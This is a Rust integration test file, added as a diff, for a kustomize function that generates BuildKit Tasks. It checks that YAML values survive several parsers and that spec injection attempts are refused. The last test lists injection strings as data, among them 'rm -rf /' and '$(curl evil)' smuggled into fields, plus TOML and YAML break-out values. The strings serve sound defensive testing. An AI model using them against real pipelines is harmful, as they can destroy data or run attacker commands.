@@ -1,0 +1,393 @@
+//! Value fidelity: values that YAML 1.1 readers (PyYAML, old go-yaml) and YAML 1.2
+//! readers disagree on, or that look like another type, pass through the function and
+//! read back equal to the input's, with a YAML 1.1 reader (PyYAML) and a YAML 1.2
+//! reader (ruamel.yaml), and with our own reader (Go yaml.v3's core schema); and
+//! through a real `kustomize build` with the function as a transformer.
+
+mod common;
+
+use std::process::Command;
+
+use common::{require, root, which};
+use harbor_buildkit_fn::yaml::emit;
+use serde_json::{Value, json};
+
+/// The values, as strings a user meant.
+const VALUES: &[&str] = &[
+    "on",
+    "off",
+    "yes",
+    "no",
+    "y",
+    "Y",
+    "n",
+    "NO",
+    "True",
+    "0755",
+    "0o17",
+    "0x1F",
+    "1e3",
+    "1_000",
+    "12:30",
+    "1:2:3",
+    "2024-01-01",
+    "2001-12-14t21:59:43.10-05:00",
+    "~",
+    "null",
+    "Null",
+    "",
+    ".inf",
+    "-.inf",
+    ".nan",
+    "=",
+    "<<",
+    " leading",
+    "trailing ",
+    "  both  ",
+    "multi\nline\n",
+    "trailing spaces  \nsecond line  \n",
+    "tab\tinside",
+    "#hash",
+    "- dash",
+    "a: b",
+    "{x: 1}",
+    "[1]",
+    "*star",
+    "&amp",
+    "!bang",
+    "%pct",
+    "@at",
+    "`tick`",
+    "'quoted'",
+    "\"dq\"",
+    "ünï",
+    "\u{2028}line sep",
+    "08",
+    "+1",
+    "-0",
+    "0b101",
+];
+
+/// Resources holding every value in data, labels, annotations, keys and nested fields.
+fn items() -> Vec<Value> {
+    let map = |prefix: &str| -> serde_json::Map<String, Value> {
+        VALUES
+            .iter()
+            .enumerate()
+            .map(|(i, v)| (format!("{prefix}{i}"), json!(v)))
+            .collect()
+    };
+    let keys: serde_json::Map<String, Value> = VALUES
+        .iter()
+        .enumerate()
+        .map(|(i, v)| ((*v).to_string(), json!(format!("key-{i}"))))
+        .collect();
+    vec![
+        json!({
+            "apiVersion": "v1",
+            "kind": "ConfigMap",
+            "metadata": {"name": "values", "namespace": "ci", "labels": map("l"), "annotations": map("a")},
+            "data": map("d"),
+        }),
+        json!({
+            "apiVersion": "v1",
+            "kind": "ConfigMap",
+            "metadata": {"name": "keys"},
+            "data": keys,
+        }),
+        json!({
+            "apiVersion": "example.com/v1",
+            "kind": "Widget",
+            "metadata": {"name": "nested"},
+            "spec": {"deep": {"list": VALUES, "map": map("m")}},
+        }),
+    ]
+}
+
+const FC: &str = "functionConfig:\n  apiVersion: fn.harbor-buildkit.dev/v1alpha1\n  kind: HarborBuildkit\n  metadata: {name: hb}\n  spec: {registry: harbor-core.default.svc.cluster.local, namespace: ci, generate: [task]}\n";
+
+/// The items written by our emitter (block) and as JSON (flow).
+fn inputs() -> Vec<(&'static str, String)> {
+    let mut block =
+        String::from("apiVersion: config.kubernetes.io/v1\nkind: ResourceList\nitems:\n");
+    let mut flow = block.clone();
+    for item in items() {
+        emit::seq_entry(&mut block, &item, 0);
+        flow.push_str("- ");
+        // JSON leaves U+2028 raw, which YAML 1.1 readers take for a line break.
+        flow.push_str(
+            &serde_json::to_string(&item)
+                .unwrap_or_default()
+                .replace('\u{2028}', "\\u2028"),
+        );
+        flow.push('\n');
+    }
+    block.push_str(FC);
+    flow.push_str(FC);
+    vec![("block", block), ("json", flow)]
+}
+
+const COMPARE: &str = r#"
+import sys
+which, before, after, n = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
+def load(path):
+    text = open(path, encoding="utf-8").read()
+    if which == "yaml1.1":
+        import yaml
+        return yaml.safe_load(text)
+    from ruamel.yaml import YAML
+    return YAML(typ="safe", pure=True).load(text)
+a, b = load(before)["items"], load(after)["items"][:n]
+bad = 0
+for x, y in zip(a, b):
+    if x != y:
+        bad += 1
+        print("differs:", repr(x)[:300], "\n   now:", repr(y)[:300])
+for item in a:
+    for k, v in (item.get("data") or {}).items():
+        if item["metadata"]["name"] == "values" and not isinstance(v, str):
+            bad += 1
+            print("not a string in the input itself:", k, repr(v))
+sys.exit(1 if bad else 0)
+"#;
+
+fn python_has(module: &str) -> bool {
+    which("python3").is_some()
+        && Command::new("python3")
+            .args(["-c", &format!("import {module}")])
+            .output()
+            .is_ok_and(|o| o.status.success())
+}
+
+fn compare_with(reader: &str, module: &str) {
+    if !require(&format!("python3 with {module}"), python_has(module)) {
+        return;
+    }
+    let dir = std::env::temp_dir().join(format!("hbfn-fidelity-{reader}-{}", std::process::id()));
+    std::fs::create_dir_all(&dir).expect("dir");
+    for (style, input) in inputs() {
+        let out = common::run(&input);
+        assert_eq!(out.exit_code, 0, "{}", out.stderr);
+        let (before, after) = (
+            dir.join(format!("{style}-in.yaml")),
+            dir.join(format!("{style}-out.yaml")),
+        );
+        std::fs::write(&before, &input).expect("write");
+        std::fs::write(&after, &out.stdout).expect("write");
+        let res = Command::new("python3")
+            .args(["-c", COMPARE, reader])
+            .arg(&before)
+            .arg(&after)
+            .arg(items().len().to_string())
+            .output()
+            .expect("python3 runs");
+        assert!(
+            res.status.success(),
+            "{reader}, {style}: {}{}",
+            String::from_utf8_lossy(&res.stdout),
+            String::from_utf8_lossy(&res.stderr)
+        );
+    }
+    let _ = std::fs::remove_dir_all(&dir);
+}
+
+#[test]
+fn values_survive_for_a_yaml_1_1_reader() {
+    compare_with("yaml1.1", "yaml");
+}
+
+#[test]
+fn values_survive_for_a_yaml_1_2_reader() {
+    compare_with("yaml1.2", "ruamel.yaml");
+}
+
+/// And for Go's yaml.v3 core schema, as our reader applies it: every value a string.
+#[test]
+fn values_survive_for_the_go_core_schema() {
+    for (style, input) in inputs() {
+        let out = common::run(&input);
+        let before = common::parse_json(&input)["items"].clone();
+        let after = common::parse_json(&out.stdout)["items"].clone();
+        for (i, item) in before.as_array().into_iter().flatten().enumerate() {
+            assert_eq!(&after[i], item, "{style}");
+        }
+        for (k, v) in before[0]["data"].as_object().into_iter().flatten() {
+            assert!(v.is_string(), "{style}: {k} = {v}");
+        }
+    }
+}
+
+/// Through a real kustomize, the function as a transformer: every resource leaves
+/// kustomize exactly as it does without the function.
+#[test]
+fn values_survive_a_real_kustomize_build() {
+    let kz = std::env::var_os("KUSTOMIZE")
+        .map(std::path::PathBuf::from)
+        .filter(|p| p.is_file())
+        .or_else(|| which("kustomize"));
+    let Some(kz) = kz else {
+        require(
+            "standalone kustomize ($KUSTOMIZE or kustomize on PATH)",
+            false,
+        );
+        return;
+    };
+    let dir = std::env::temp_dir().join(format!("hbfn-fidelity-kz-{}", std::process::id()));
+    let _ = std::fs::remove_dir_all(&dir);
+    std::fs::create_dir_all(dir.join("plain")).expect("dir");
+    std::fs::create_dir_all(dir.join("with-fn")).expect("dir");
+    // kustomize cannot round-trip an empty key or a key holding U+2028 through its own
+    // function protocol even with `cat` as the function: those keys are left out here.
+    let mut resources = String::new();
+    for mut item in items() {
+        if let Some(data) = item.get_mut("data").and_then(Value::as_object_mut) {
+            data.retain(|k, _| !k.is_empty() && !k.contains('\u{2028}'));
+        }
+        resources.push_str("---\n");
+        resources.push_str(&emit::document(&item));
+    }
+    for d in ["plain", "with-fn"] {
+        std::fs::write(dir.join(d).join("resources.yaml"), &resources).expect("write");
+    }
+    std::fs::write(
+        dir.join("plain/kustomization.yaml"),
+        "resources:\n- resources.yaml\n",
+    )
+    .expect("write");
+    std::fs::write(
+        dir.join("with-fn/kustomization.yaml"),
+        "resources:\n- resources.yaml\ntransformers:\n- fn.yaml\n",
+    )
+    .expect("write");
+    std::fs::write(
+        dir.join("with-fn/fn.yaml"),
+        "apiVersion: fn.harbor-buildkit.dev/v1alpha1\nkind: HarborBuildkit\nmetadata:\n  name: hb\n  annotations:\n    config.kubernetes.io/function: |\n      exec:\n        path: harbor-buildkit-fn\nspec:\n  registry: harbor-core.default.svc.cluster.local\n  namespace: ci\n  generate: [task]\n",
+    )
+    .expect("write");
+    let bin_dir = std::path::Path::new(env!("CARGO_BIN_EXE_harbor-buildkit-fn"))
+        .parent()
+        .map(std::path::Path::to_path_buf)
+        .unwrap_or_default();
+    let path = format!(
+        "{}:{}",
+        bin_dir.display(),
+        std::env::var("PATH").unwrap_or_default()
+    );
+    let build = |d: &str| {
+        let out = Command::new(&kz)
+            .args(["build", "--enable-alpha-plugins", "--enable-exec"])
+            .arg(dir.join(d))
+            .env("PATH", &path)
+            .output()
+            .expect("kustomize runs");
+        assert!(
+            out.status.success(),
+            "{d}: {}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+        String::from_utf8_lossy(&out.stdout).into_owned()
+    };
+    let plain = build("plain");
+    let with_fn = build("with-fn");
+    // The Task is the only addition. (kustomize's key order within a mapping can differ
+    // between the two runs even with `cat` as the function, so documents are compared
+    // as values, read by the same reader, not as text.)
+    let docs = |s: &str| -> Vec<Value> {
+        s.split("\n---\n")
+            .map(common::parse_json)
+            .filter(|d| d["kind"] != "Task")
+            .collect()
+    };
+    let (plain, with) = (docs(&plain), docs(&with_fn));
+    assert_eq!(plain.len(), with.len());
+    for (a, b) in plain.iter().zip(&with) {
+        assert_eq!(a, b, "kustomize's output differs with the function");
+    }
+    let values = plain
+        .iter()
+        .find(|d| d["metadata"]["name"] == "values")
+        .expect("values");
+    for (k, v) in values["data"].as_object().into_iter().flatten() {
+        assert!(v.is_string(), "{k} = {v} after kustomize");
+    }
+    let _ = std::fs::remove_dir_all(&dir);
+}
+
+/// Injection through the spec is refused per output channel, with an error naming the
+/// field: the Task (env values), the TOML, and the YAML.
+#[test]
+fn injection_attempts_are_refused_in_every_channel() {
+    let attempts: &[(&str, &str, &str)] = &[
+        // The Task: values that reach the step's env and args.
+        (
+            "buildkitHost",
+            "\"tcp://buildkitd:1234\\\"; rm -rf / #\"",
+            "spec.buildkitHost",
+        ),
+        (
+            "buildkitHost",
+            "\"tcp://$(curl evil)\"",
+            "spec.buildkitHost",
+        ),
+        (
+            "buildctlImage",
+            "\"moby/buildkit`id`\"",
+            "spec.buildctlImage",
+        ),
+        (
+            "registry",
+            "\"harbor.ns.svc\\nREGISTRY_PLAIN_HTTP=false\"",
+            "spec.registry",
+        ),
+        // The TOML: values that reach buildkitd.toml.
+        (
+            "ca",
+            "[\"/certs/ca.pem\\\"]\\n[registry.\\\"evil\\\"]\"]",
+            "spec.ca[0]",
+        ),
+        ("ca", "[\"/certs/ca.pem\\\"\\\"\\\"\"]", "spec.ca[0]"),
+        (
+            "mirrors",
+            "[\"mirror.example.com\\\"]\"]",
+            "spec.mirrors[0]",
+        ),
+        (
+            "mirrors",
+            "[\"m.example.com # comment\"]",
+            "spec.mirrors[0]",
+        ),
+        (
+            "registry",
+            "\"harbor.ns.svc\\\"]\\nhttp = true #\"",
+            "spec.registry",
+        ),
+        // The YAML: values that reach generated resources' names and text.
+        ("namespace", "\"ci\\nkind: Secret\"", "spec.namespace"),
+        ("taskName", "\"x: {y: z}\"", "spec.taskName"),
+        ("buildkitConfigMap", "\"a'b\"", "spec.buildkitConfigMap"),
+    ];
+    for (field, value, path) in attempts {
+        let input = format!(
+            "apiVersion: config.kubernetes.io/v1\nkind: ResourceList\nitems: []\nfunctionConfig:\n  apiVersion: fn.harbor-buildkit.dev/v1alpha1\n  kind: HarborBuildkit\n  metadata: {{name: x}}\n  spec:\n    {}\n    {field}: {value}\n",
+            if *field == "registry" {
+                "scheme: https\n    harborNamespace: harbor"
+            } else {
+                "registry: harbor-core.default.svc"
+            }
+        );
+        let out = common::run(&input);
+        assert_eq!(
+            out.exit_code, 1,
+            "{field}: {value} was accepted:\n{}",
+            out.stdout
+        );
+        assert!(out.stdout.contains("items: []"), "{field}");
+        assert!(
+            out.stderr.contains(path),
+            "{field}: {value}: the error does not name {path}:\n{}",
+            out.stderr
+        );
+        assert!(!out.stdout.contains("kind: Task"), "{field}");
+    }
+    let _ = root();
+}
